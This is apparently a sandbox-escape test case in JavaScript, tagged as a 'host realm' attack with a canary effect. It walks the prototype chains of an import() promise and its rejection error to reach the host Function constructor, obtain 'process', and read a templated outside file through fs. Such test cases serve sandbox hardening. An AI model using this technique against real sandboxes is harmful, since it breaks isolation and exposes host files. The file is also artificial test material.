// attack {"class":"host realm","attempt":"the promise that import() gives, before it is refused","effect":"canary","ends":["ok"],"bare":true}
const read = (start) => start.constructor.constructor("return process")().getBuiltinModule("fs").readFileSync("{{outside.file}}", "utf8");

const promise = import("node:fs");
promise.catch(() => {});
let seen = "";
for (let start = promise; start !== null && start !== undefined; start = Object.getPrototypeOf(start)) {
  try { seen += read(start); } catch {}
}
await promise.catch((error) => { try { seen += read(error); } catch {} });
console.log(seen);
